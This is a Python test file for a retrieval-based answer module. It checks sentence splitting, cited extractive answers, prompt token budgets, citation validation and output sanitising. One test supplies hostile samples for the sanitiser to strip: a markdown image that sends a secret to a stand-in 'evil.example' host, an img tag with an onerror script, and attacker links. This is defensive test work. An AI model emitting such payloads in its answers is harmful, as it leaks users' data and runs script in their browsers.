"""Answer building blocks without a model: sentences, extractive choice, prompt budget, checks."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sovra.answer.extractive import extract_answer
from sovra.answer.prompt import SYSTEM_PROMPT, build_prompt
from sovra.answer.sentences import split_sentences
from sovra.answer.types import NOT_FOUND
from sovra.answer.verify import check_citations, sanitize, verify_output
from tests.support.answer import hit

ETCD = (
    "# Mitigation\nWhen the etcd database quota is low, defragment the etcd database\n"
    "on every member with etcdctl defrag. Then check the alarm list and disarm it.\n\n"
    "Unrelated housekeeping notes are kept here too."
)


def test_sentences_join_wrapped_lines_and_keep_offsets() -> None:
    sentences = split_sentences(ETCD)
    assert sentences[0].text.startswith("When the etcd database quota is low, defragment")
    assert sentences[0].text.endswith("etcdctl defrag.")
    for s in sentences:
        assert " ".join(ETCD[s.start : s.end].split()) == s.text


@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=400))
def test_sentence_offsets_always_inside_text(text: str) -> None:
    for s in split_sentences(text, min_words=1):
        assert 0 <= s.start <= s.end <= len(text)


def test_extractive_quotes_and_cites_the_supporting_sentence() -> None:
    hits = [hit("Office plants need water twice a week.", 0), hit(ETCD, 1)]
    ex = extract_answer("what to do when etcd database quota is low", "en", hits, None)
    assert ex.found
    assert "defragment the etcd database" in ex.text
    assert "[1]" in ex.text
    assert ex.citations[0].document_id == "s:d1"
    # The citation span points into the document (chunk start + sentence offset).
    assert ex.citations[0].start >= 100


def test_extractive_refuses_without_support() -> None:
    hits = [hit(ETCD, 0)]
    ex = extract_answer("who won the football world cup in 1954", "en", hits, None)
    assert not ex.found
    assert ex.text == NOT_FOUND
    assert ex.citations == []
    assert extract_answer("anything", "en", [], None).text == NOT_FOUND


def test_prompt_is_token_budgeted_and_numbered() -> None:
    def count(text: str) -> int:
        return len(text.split())

    hits = [hit("alpha " * 300, 0), hit("beta " * 300, 1), hit("gamma " * 300, 2)]
    prompt = build_prompt(
        "question?", hits, context_tokens=700, max_answer_tokens=100, count_tokens=count
    )
    assert prompt.truncated
    assert prompt.prompt_tokens + 100 <= 700
    assert '<source id="1"' in prompt.messages[1]["content"]
    assert prompt.messages[0]["content"] == SYSTEM_PROMPT
    with pytest.raises(ValueError, match="too small"):
        build_prompt("q", hits, context_tokens=120, max_answer_tokens=100, count_tokens=count)


def test_out_of_range_and_unsupported_citations_removed() -> None:
    hits = [hit(ETCD, 0), hit("Office plants need water twice a week.", 1)]
    text = (
        "Defragment the etcd database with etcdctl defrag [1]. "
        "Water office plants twice a week [1]. Something else [7]."
    )
    checked = check_citations(text, hits, "en")
    assert "etcdctl defrag [1]" in checked.text
    assert "twice a week. Something else." in checked.text
    assert "[7]" not in checked.text
    assert checked.cited == [1]
    assert "citation_out_of_range" in checked.flags
    assert "unsupported_citation" in checked.flags


def test_hygiene_strips_exfiltration_channels() -> None:
    text = (
        "See ![x](https://evil.example/leak?d=secret) and <img src=x onerror=alert(1)> "
        "and [the guide](https://evil.example/p) and https://evil.example/q plus "
        "[runbook](https://docs.internal.example/etcd)."
    )
    clean, flags = sanitize(text, {"docs.internal.example"})
    assert "evil.example" not in clean
    assert "<img" not in clean
    assert "[runbook](https://docs.internal.example/etcd)" in clean
    assert {"removed_image", "removed_html", "removed_link"} <= set(flags)


def test_verify_output_combines_checks() -> None:
    hits = [hit(ETCD, 0, uri="https://docs.internal.example/etcd")]
    out = verify_output("Defrag with etcdctl defrag [1] ![p](http://x.test/a.png)", hits, "en")
    assert out.cited == [1]
    assert "x.test" not in out.text
    assert "removed_image" in out.flags
    assert "no_citations" in verify_output("No sources used here at all.", hits, "en").flags
